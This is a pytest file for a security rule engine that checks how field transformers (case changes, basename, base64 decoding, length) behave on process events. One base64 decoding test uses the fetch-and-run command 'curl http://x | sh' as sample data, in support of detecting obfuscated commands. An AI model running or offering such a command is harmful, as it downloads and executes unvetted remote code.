"""Transformers applied to bound fields: values, types, unknown values, lists, and type errors."""

from __future__ import annotations

import base64

import pytest

from falconet.rules.errors import CompileError
from falconet.model.event import Event, Process
from falconet.rules.fields import FieldType, resolve
from falconet.rules.transformers import apply


def event(name: str = "Bash", args: list[str] | None = None, exepath: str = "/usr/bin/Bash") -> Event:
    parent = Process(pid=1, name="SSHD", exepath="/usr/sbin/sshd", parent=Process(pid=0, name="Init"))
    proc = Process(pid=2, name=name, exepath=exepath, args=args or [], parent=parent)
    return Event(num=1, ts=0, type="execve", tid=2, res=0, proc=proc)


def chain(field: str, *names: str, arg: str | None = None):  # type: ignore[no-untyped-def]
    bound = resolve(field, arg)
    extract, ftype, is_list, any_of = bound.extract, bound.type, bound.is_list, bound.any_of
    for name in reversed(names):  # innermost last in the call, as written: tolower(basename(x))
        extract, ftype, is_list, any_of = apply(name, extract, ftype, is_list, any_of)
    return extract, ftype, is_list, any_of


def test_case_and_basename() -> None:
    e = event()
    assert chain("proc.name", "tolower")[0](e) == "bash"
    assert chain("proc.name", "toupper")[0](e) == "BASH"
    extract, ftype, _, _ = chain("proc.exepath", "tolower", "basename")
    assert (extract(e), ftype) == ("bash", FieldType.PATH)
    assert chain("proc.exepath", "basename")[0](event(exepath="/usr/bin/")) == ""


def test_b64_decodes_and_invalid_is_unknown() -> None:
    payload = base64.b64encode(b"curl http://x | sh").decode()
    assert chain("proc.args", "b64")[0](event(args=[payload])) == "curl http://x | sh"
    assert chain("proc.args", "b64")[0](event(args=["%%%not-base64"])) is None
    unpadded = base64.b64encode(b"id;").decode().rstrip("=")
    assert chain("proc.args", "b64")[0](event(args=[unpadded])) == "id;"


def test_len_is_numeric() -> None:
    extract, ftype, is_list, any_of = chain("proc.args", "len")
    assert (extract(event(args=["-c", "ls"])), ftype, is_list, any_of) == (5, FieldType.INT, False, False)
    assert chain("proc.cwd", "len")[0](event()) is None  # unknown stays unknown


def test_any_of_fields_transform_each_value() -> None:
    extract, ftype, _, any_of = chain("proc.aname", "tolower")
    assert any_of and extract(event()) == ["sshd", "init"]


def test_type_errors() -> None:
    with pytest.raises(CompileError, match="does not apply to a int field"):
        chain("proc.pid", "toupper")
    with pytest.raises(CompileError, match="unknown transformer"):
        chain("proc.name", "reverse")
